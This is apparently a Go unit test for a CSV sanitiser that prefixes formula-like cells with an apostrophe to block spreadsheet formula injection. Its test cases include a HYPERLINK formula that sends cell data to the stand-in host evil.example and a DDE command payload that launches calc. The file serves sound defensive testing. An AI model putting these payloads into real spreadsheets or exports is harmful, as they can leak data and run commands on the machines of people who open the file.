package csvsafe_test

import (
	"strings"
	"testing"

	"annotate/internal/csvsafe"
)

func TestNeutralise(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-0.25", "-0.25"},
		{"+3", "+3"},
		{"1e-3", "1e-3"},
		{"a = b", "a = b"},
		{"", ""},
	}
	for _, c := range cases {
		if got := csvsafe.Neutralise(c.in); got != c.want {
			t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b strings.Builder
	w := csvsafe.NewWriter(&b)
	w.Write([]string{"=1+1", "-0.5", "ok"})
	w.KeepFormulas = true
	w.Write([]string{"=1+1"})
	w.Flush()
	if want := "'=1+1,-0.5,ok\n=1+1\n"; b.String() != want {
		t.Fatalf("got %q, want %q", b.String(), want)
	}
}
